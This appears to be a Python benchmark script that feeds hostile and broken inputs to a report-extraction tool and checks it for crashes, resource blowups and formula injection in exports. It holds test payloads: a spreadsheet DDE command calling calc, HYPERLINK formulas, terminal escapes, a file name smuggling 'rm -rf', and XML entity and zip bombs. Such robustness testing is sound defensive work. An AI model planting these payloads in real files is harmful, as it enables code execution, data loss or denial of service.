"""Issue 16's attack, rerun: hostile and broken inputs, each through `jixiao extract` alone.

    .venv/bin/python benchmarks/bench_hostile.py [--only NAME …] [--seconds 10] [--mb 1024] [--keep DIR]

Builds every input in a temporary folder (our own text: the samples in corpora/samples/ with
markup, terminal escapes, control characters, formulas and odd encodings put in; runs of
white space and punctuation up to a few MB on one line; HTML, DOCX, XLSX and PDF bombs;
hostile file names; files that are no report at all), then:

1. each input alone: `jixiao extract INPUT -o out.jsonl` as a subprocess, timed from start
   to exit, the peak RSS of its whole process tree sampled.  Clean when no traceback is
   printed, the document gets at most one error line (naming it), the output file holds a
   line for it or the error line says why not, and it ends within --seconds and --mb;
2. all inputs in one batch into a store (`--db`), then `jixiao export` to xlsx and csv:
   no cell of the xlsx is a formula, no csv cell starts with = + - @ TAB or CR unescaped,
   and every input is accounted for exactly once (stored, or one error line).

Prints a table, one row per input, and last `clean=N/M formulas=F lost=L duplicated=D`.
"""
from __future__ import annotations

import argparse
import csv
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT), str(ROOT / "benchmarks")]
from bench_extract import RssSampler  # noqa: E402

SAMPLE = (ROOT / "corpora" / "samples" / "01_tab_selfeval_education.txt").read_text("utf-8")
# a reason cell of the sample's indicator table: the statement the hostile strings go into
PROBLEM = next(cell for line in SAMPLE.splitlines() for cell in line.split("\t")[7:]
               if len(re.findall(r"[\u4e00-\u9fff]", cell)) >= 10)
_CLI = "from assistant.cli import console; console()"
_TRACEBACK = re.compile(r"Traceback \(most recent call last\)|^\w+Error: ", re.M)
_ERROR = re.compile(r"^(?:错误：|error: |注意：|note: )", re.M)
_FORMULA_START = tuple("=+-@\t\r")

Builder = Callable[[Path], Path]
INPUTS: dict[str, Builder] = {}


def hostile(name: str):
    def register(fn: Builder) -> Builder:
        INPUTS[name] = fn
        return fn
    return register


def _text(folder: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    """A text input; each gets a line of its own so that no two share a text (the store keeps
    one copy of a text, which would make a second input look lost)."""
    path = folder / name
    if text:
        text += f"\n（输入 {len(list(folder.iterdir()))}）\n"
    path.write_bytes(text.encode(encoding, "surrogatepass" if encoding == "utf-8" else "strict"))
    return path


def _with(name: str, text: str) -> Builder:
    return lambda folder: _text(folder, f"{name}.txt", text)


def _in_problem(insert: str) -> str:
    return SAMPLE.replace(PROBLEM, PROBLEM[:6] + insert + PROBLEM[6:], 1)


def _in_name(insert: str) -> str:
    line = next(x for x in SAMPLE.splitlines() if x.startswith("项目名称"))
    key, _, value = line.partition("\t")
    return SAMPLE.replace(line, f"{key}\t{value[:2]}{insert}{value[2:]}", 1)


# ---------------------------------------------------------------------------- report text

for _name, _text_of in {
    "markup_close_in_name": _in_name("[/]"),
    "markup_link_in_problem": _in_problem("[link=http://example.invalid]点此[/link]"),
    "markup_style": _in_problem("[bold red]红字[/bold red][/]"),
    "escape_clear_screen": _in_problem("\x1b[2J\x1b[H"),
    "escape_title": _in_name("\x1b]0;pwned\x07"),
    "c0_controls": _in_problem("\x07\x08\x0b\x0c\x7f\x1f"),
    "formula_hyperlink": _in_problem('=HYPERLINK("http://example.invalid/?"&A1,"点此")'),
    "formula_dde_problem": SAMPLE.replace(PROBLEM, "+cmd|' /C calc'!A0 " + PROBLEM, 1),
    "formula_at_minus": SAMPLE.replace(PROBLEM, "@SUM(1+1)", 1).replace("≥", "-", 3),
    "formula_targets": SAMPLE.replace("≥", "=", 6),
    "carriage_return_cells": SAMPLE.replace("\t", "\t\r", 8),
    "bidi_override": _in_name("\u202e\u2066"),
    "zero_width": _in_problem("\u200b\ufeff\u2060" * 20),
    "astral_and_emoji": _in_name("𠀀😀"),
    "private_use": _in_problem("\ue000\uf8ff"),
}.items():
    hostile(_name)(_with(_name, _text_of))


@hostile("nul_inside")
def _nul(folder: Path) -> Path:
    return _text(folder, "nul_inside.txt", _in_problem("\x00\x00"))


@hostile("invalid_utf8_bytes")
def _bad_bytes(folder: Path) -> Path:
    path = folder / "invalid_utf8_bytes.txt"
    data = SAMPLE.encode("utf-8")
    path.write_bytes(data[:200] + b"\xff\xfe\xfa\xed\xa0\x80" + data[200:])
    return path


@hostile("gbk")
def _gbk(folder: Path) -> Path:
    return _text(folder, "gbk.txt", SAMPLE, "gbk")


@hostile("utf16_bom")
def _utf16(folder: Path) -> Path:
    return _text(folder, "utf16_bom.txt", SAMPLE, "utf-16")


@hostile("utf8_bom")
def _bom(folder: Path) -> Path:
    return _text(folder, "utf8_bom.txt", "\ufeff" + SAMPLE)


# ---------------------------------------------------------------------------- size and time

for _name, (_run, _count) in {
    "spaces_13kb": (" ", 13_000), "spaces_73kb": (" ", 73_000), "spaces_1m": (" ", 1_000_000),
    "tabs_1m": ("\t", 1_000_000), "full_stops_300k": ("。", 300_000), "bars_1m": ("|", 1_000_000),
    "brackets_200k": ("(", 200_000), "colons_300k": ("：", 300_000),
    "problem_heads_100k": ("存在问题：", 100_000), "numbering_200k": ("一、", 200_000),
}.items():
    hostile(_name)(_with(_name, "项目名称\t某项目\n存在问题：" + _run * _count + "预算执行率低。\n" + SAMPLE))

hostile("one_line_5mb")(_with("one_line_5mb", (SAMPLE.replace("\n", " ") + " ") * (5_000_000 // len(SAMPLE))))
hostile("fields_200k")(_with("fields_200k", "项目名称：某项目\n" * 200_000))
hostile("headers_50k")(_with("headers_50k", "一级指标\t二级指标\t三级指标\t指标值\t实际完成值\t分值\t得分\n" * 50_000))
# one header row whose headings carry a note inside them (半年(程)指标值), run on 20,000 times
# 20,000 numbered problem headings in one line, as a flattened page runs a report's sections together
hostile("headings_one_line_20k")(_with("headings_one_line_20k", "（一）概况。"
                                       + "二、存在的问题 部分资金拨付较晚，影响进度。" * 20_000 + "\n"))
hostile("noted_headings_20k")(_with("noted_headings_20k", "项目名称 某项目\n一级指标 二级指标 三级指标 "
                                    + "半年(程)指标值 全年(程)指标值 " * 20_000 + "\n产出指标 数量指标 开放天数 ≥150天 ≥300天\n"))


@hostile("sparse_300mb")
def _sparse(folder: Path) -> Path:
    path = folder / "sparse_300mb.txt"
    with open(path, "wb") as fh:
        fh.write(SAMPLE.encode("utf-8"))
        fh.truncate(300 * 1024 * 1024)
    return path


# ---------------------------------------------------------------------------- HTML

hostile("html_unclosed_tables")(
    lambda f: _text(f, "html_unclosed_tables.html", "<html><body>" + "<table><tr><td>项目名称" * 50_000))
hostile("html_200k_cells")(
    lambda f: _text(f, "html_200k_cells.html", "<table>" + "<tr>" + "<td>指标</td>" * 200_000 + "</tr></table>"))
hostile("html_huge_script")(
    lambda f: _text(f, "html_huge_script.html", "<html><script>" + "var a=1;" * 600_000 + "</script>"
                    + "<p>项目名称：某项目</p></html>"))
hostile("html_entities")(
    lambda f: _text(f, "html_entities.html", "<p>项目名称：某&#27;[2J项目&#0;&#x1b;]0;t&#7;</p>"
                    + "<p>存在问题：=HYPERLINK(&quot;http://example.invalid&quot;)</p>"))
hostile("html_entity_expansion")(
    lambda f: _text(f, "html_entity_expansion.html",
                    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "aaaaaaaaaa">'
                    + "".join(f'<!ENTITY {chr(98 + k)} "{("&" + chr(97 + k) + ";") * 10}">' for k in range(8))
                    + ']><html><body><p>项目名称：&i;</p></body></html>'))


# ---------------------------------------------------------------------------- Office

def _docx_with(folder: Path, name: str, member: str, writer: Callable[[zipfile.ZipFile], None]) -> Path:
    import docx

    path = folder / name
    document = docx.Document()
    for line in SAMPLE.splitlines()[:20]:
        document.add_paragraph(line)
    document.save(str(path))
    if member:
        with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as z:
            writer(z)
    return path


def _zeros(z: zipfile.ZipFile, member: str, mb: int) -> None:
    block = b"\0" * (1024 * 1024)
    with z.open(member, "w", force_zip64=True) as out:
        for _ in range(mb):
            out.write(block)


@hostile("docx_media_bomb_1gb")
def _docx_bomb(folder: Path) -> Path:
    return _docx_with(folder, "docx_media_bomb_1gb.docx", "word/media/padding.bin",
                      lambda z: _zeros(z, "word/media/padding.bin", 1024))


@hostile("docx_xml_bomb")
def _docx_xml_bomb(folder: Path) -> Path:
    path = folder / "docx_xml_bomb.docx"
    shutil.copy(_docx_with(folder, "docx_xml_bomb_base.docx", "", lambda z: None), path)
    os.remove(folder / "docx_xml_bomb_base.docx")
    with zipfile.ZipFile(path) as src:
        members = {n: src.read(n) for n in src.namelist() if n != "word/document.xml"}
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for n, data in members.items():
            z.writestr(n, data)
        with z.open("word/document.xml", "w", force_zip64=True) as out:
            out.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                      b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>')
            block = b" " * (1024 * 1024)
            for _ in range(300):
                out.write(block)
            out.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return path


@hostile("docx_entity_expansion")
def _docx_laughs(folder: Path) -> Path:
    path = folder / "docx_entity_expansion.docx"
    base = _docx_with(folder, "laughs_base.docx", "", lambda z: None)
    with zipfile.ZipFile(base) as src:
        members = {n: src.read(n) for n in src.namelist() if n != "word/document.xml"}
    base.unlink()
    entities = '<!ENTITY a "项目名称项目名称">' + "".join(
        f'<!ENTITY {chr(98 + k)} "{("&" + chr(97 + k) + ";") * 10}">' for k in range(9))
    xml = ('<?xml version="1.0"?><!DOCTYPE d [' + entities + ']><w:document xmlns:w="http://schemas.'
           'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p>'
           '</w:body></w:document>')
    with zipfile.ZipFile(path, "w") as z:
        for n, data in members.items():
            z.writestr(n, data)
        z.writestr("word/document.xml", xml)
    return path


@hostile("docx_truncated")
def _docx_cut(folder: Path) -> Path:
    path = _docx_with(folder, "docx_truncated.docx", "", lambda z: None)
    data = path.read_bytes()
    path.write_bytes(data[:len(data) // 2])
    return path


@hostile("docx_random_zip")
def _docx_random(folder: Path) -> Path:
    path = folder / "docx_random_zip.docx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("readme.txt", "not a Word document")
    return path


@hostile("xlsx_far_cell")
def _xlsx_far(folder: Path, name: str = "xlsx_far_cell.xlsx") -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "项目名称"
    book.active["B1"] = "某项目"
    book.active["XFD1048576"] = "远处"
    path = folder / name
    book.save(path)
    return path


@hostile("xlsx_formulas")
def _xlsx_formulas(folder: Path) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for r, line in enumerate(SAMPLE.splitlines()[:40], start=1):
        for c, cell in enumerate(line.split("\t"), start=1):
            sheet.cell(row=r, column=c, value=cell)
    sheet["J5"] = '=HYPERLINK("http://example.invalid","点此")'
    sheet["K5"] = "=cmd|' /C calc'!A0"
    path = folder / "xlsx_formulas.xlsx"
    book.save(path)
    return path


@hostile("xlsx_300k_cells")
def _xlsx_many(folder: Path) -> Path:
    import openpyxl

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    for r in range(30_000):
        sheet.append([f"指标{r}", "≥90%", "95%", 10, 10, "", "", "", "", ""])
    path = folder / "xlsx_300k_cells.xlsx"
    book.save(path)
    return path


@hostile("xlsx_sheet_bomb")
def _xlsx_bomb(folder: Path) -> Path:
    path = _xlsx_far(folder, "xlsx_sheet_bomb.xlsx")
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as z:
        _zeros(z, "xl/media/padding.bin", 1024)
    return path


# ---------------------------------------------------------------------------- PDF and files

@hostile("pdf_truncated")
def _pdf_cut(folder: Path) -> Path:
    from tests.fixtures_build import pdf_bytes

    data = pdf_bytes()
    path = folder / "pdf_truncated.pdf"
    path.write_bytes(data[:len(data) // 2])
    return path


@hostile("pdf_junk")
def _pdf_junk(folder: Path) -> Path:
    path = folder / "pdf_junk.pdf"
    path.write_bytes(b"%PDF-1.7\n" + os.urandom(200_000))
    return path


@hostile("pdf_scanned")
def _pdf_scanned(folder: Path) -> Path:
    from tests.fixtures_build import build_scanned_pdf

    return build_scanned_pdf(folder / "pdf_scanned.pdf")


for _name, _file in {
    "name_not_utf8": os.fsdecode(b"\xff\xfe\xba\xc3report.txt"),
    "name_newline": "报告\n第二行.txt",
    "name_escape": "\x1b[2J\x1b]0;t\x07报告.txt",
    "name_markup": "[bold red]报告[link=x].txt",
    "name_dash": "-o.txt",
    "name_spaces_and_quotes": " '报告\" ; rm -rf x .txt",
}.items():
    hostile(_name)(lambda folder, _file=_file: _text(folder, _file, SAMPLE))


@hostile("zero_bytes")
def _empty(folder: Path) -> Path:
    return _text(folder, "zero_bytes.txt", "")


@hostile("directory_named_txt")
def _dir(folder: Path) -> Path:
    path = folder / "directory_named_txt.txt"
    path.mkdir()
    return path


@hostile("fifo")
def _fifo(folder: Path) -> Path:
    path = folder / "fifo.txt"
    os.mkfifo(path)
    return path


@hostile("symlink_loop")
def _loop(folder: Path) -> Path:
    path = folder / "symlink_loop.txt"
    path.symlink_to(path)
    return path


@hostile("binary_junk")
def _junk(folder: Path) -> Path:
    path = folder / "binary_junk.txt"
    path.write_bytes(os.urandom(100_000))
    return path


@hostile("legacy_doc")
def _doc(folder: Path) -> Path:
    from tests.fixtures_build import build_ole

    return build_ole(folder / "legacy_doc.doc", "WordDocument")


@hostile("legacy_xls")
def _xls(folder: Path) -> Path:
    from tests.fixtures_build import build_ole

    return build_ole(folder / "legacy_xls.xls", "Workbook")


@hostile("png_image")
def _png(folder: Path) -> Path:
    from tests.fixtures_build import build_png

    return build_png(folder / "png_image.png")


# ---------------------------------------------------------------------------- running

def run_one(path: Path, out: Path, seconds: float) -> dict:
    cmd = [sys.executable, "-c", _CLI, "extract", os.fsencode(path), "-o", str(out), "--no-progress"]
    start = time.perf_counter()
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT,
                            env={**os.environ, "JIXIAO_LANG": "zh"})
    sampler = RssSampler(proc.pid)
    sampler.start()
    try:
        stdout, stderr = proc.communicate(timeout=max(seconds * 6, 150))
        killed = False
    except subprocess.TimeoutExpired:
        proc.kill()
        stdout, stderr = proc.communicate()
        killed = True
    elapsed = time.perf_counter() - start
    sampler.stop()
    err = stderr.decode("utf-8", "replace")
    lines = out.read_bytes().count(b"\n") if out.exists() else 0
    return {"seconds": elapsed, "rss_mb": sampler.peak_mb(), "rc": proc.returncode, "killed": killed,
            "errors": [x for x in err.splitlines() if _ERROR.match(x)], "traceback": bool(_TRACEBACK.search(err)),
            "written": lines, "stderr": err}


def verdict(r: dict, name: str, seconds: float, mb: float) -> str:
    """'' when clean, else what was wrong."""
    wrong = []
    if r["killed"]:
        wrong.append("killed")
    if r["traceback"]:
        wrong.append("traceback")
    if len(r["errors"]) > 1:
        wrong.append(f"{len(r['errors'])} error lines")
    if r["written"] + len(r["errors"]) < 1:
        wrong.append("neither output nor error")
    if r["seconds"] > seconds:
        wrong.append(f"{r['seconds']:.0f} s")
    if r["rss_mb"] > mb:
        wrong.append(f"{r['rss_mb']:.0f} MB")
    if r["rc"] not in (0, 1):
        wrong.append(f"exit {r['rc']}")
    return ", ".join(wrong)


def batch_checks(folder: Path, paths: list[Path], work: Path) -> dict:
    """All inputs in one run into a store, exported: formulas, lost and duplicated documents."""
    db, xlsx, csv_path = work / "store.sqlite", work / "all.xlsx", work / "all.csv"
    done = subprocess.run([sys.executable, "-c", _CLI, "extract", str(folder), "--db", str(db), "--no-progress"],
                          capture_output=True, cwd=ROOT, env={**os.environ, "JIXIAO_LANG": "zh"}, timeout=3600)
    err = done.stderr.decode("utf-8", "replace")
    for fmt, target in (("xlsx", xlsx), ("csv", csv_path)):
        subprocess.run([sys.executable, "-c", _CLI, "export", "--db", str(db), "-f", fmt, "-o", str(target)],
                       capture_output=True, cwd=ROOT, timeout=600, check=True)
    formulas = 0
    import openpyxl

    book = openpyxl.load_workbook(xlsx)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            formulas += sum(1 for cell in row if cell.data_type == "f")
    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        formulas += sum(1 for row in csv.reader(fh) for cell in row if cell.startswith(_FORMULA_START))
    with sqlite3.connect(db) as con:
        stored = [row[0] for row in con.execute("SELECT source FROM documents")]
    names = [p.name for p in paths if not p.is_dir()]      # a folder is walked, not a document
    seen = {n: 0 for n in names}
    for source in stored:
        key = _shown(Path(source).name)
        for n in names:
            if _shown(n) == key:
                seen[n] += 1
    for line in err.splitlines():
        if _ERROR.match(line):
            for n in names:
                if _shown(n) in _shown(line):
                    seen[n] += 1
                    break
    lost = [n for n, k in seen.items() if k == 0]
    duplicated = [n for n, k in seen.items() if k > 1]
    return {"formulas": formulas, "lost": lost, "duplicated": duplicated, "stored": len(stored),
            "traceback": bool(_TRACEBACK.search(err))}


def _shown(name: str) -> str:
    """A file name as outputs may print it: undecodable bytes and control characters in any
    of their escaped forms compared alike (only letters, digits and CJK kept)."""
    name = re.sub(r"%[0-9A-Fa-f]{2}|\\x[0-9A-Fa-f]{2}|\\u[0-9A-Fa-f]{4}", "", name)
    return "".join(ch for ch in name if ch.isalnum() and ch.isprintable())


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--only", nargs="*", help="these inputs only (names as listed)")
    parser.add_argument("--seconds", type=float, default=10.0, help="wall-clock bound per input (default 10)")
    parser.add_argument("--mb", type=float, default=1024.0, help="peak RSS bound per input in MB (default 1024)")
    parser.add_argument("--keep", type=Path, help="build the inputs here and keep them")
    parser.add_argument("--no-batch", action="store_true", help="skip the one-batch store and export check")
    args = parser.parse_args()
    names = args.only or list(INPUTS)
    unknown = [n for n in names if n not in INPUTS]
    if unknown:
        sys.exit(f"unknown inputs: {', '.join(unknown)} (known: {', '.join(INPUTS)})")
    work = Path(tempfile.mkdtemp(prefix="jixiao-hostile-"))
    folder = args.keep or work / "inputs"
    folder.mkdir(parents=True, exist_ok=True)
    try:
        paths = [INPUTS[n](folder) for n in names]
        print(f"{'input':28s} {'s':>6s} {'MB':>6s} {'rc':>3s} {'out':>4s}  verdict / error line")
        clean = 0
        for name, path in zip(names, paths):
            r = run_one(path, work / "one.jsonl", args.seconds)
            (work / "one.jsonl").unlink(missing_ok=True)
            bad = verdict(r, name, args.seconds, args.mb)
            clean += not bad
            said = r["errors"][0][:70] if r["errors"] else ""
            print(f"{name:28s} {r['seconds']:6.1f} {r['rss_mb']:6.0f} {r['rc']!s:>3s} {r['written']:4d}  "
                  f"{'BAD: ' + bad if bad else 'clean'}  {said!r}")
        result = f"clean={clean}/{len(names)}"
        if not args.no_batch:
            fifo = [p for p in paths if p.is_fifo()]
            for p in fifo:          # a folder walk skips what is no regular file; a named FIFO is tried above
                p.unlink()
            b = batch_checks(folder, [p for p in paths if p not in fifo], work)
            print(f"batch: {b['stored']} documents stored; lost {b['lost'] or 'none'}; duplicated "
                  f"{b['duplicated'] or 'none'}; traceback {b['traceback']}")
            result += f" formulas={b['formulas']} lost={len(b['lost'])} duplicated={len(b['duplicated'])}"
        print(result)
    finally:
        if not args.keep:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
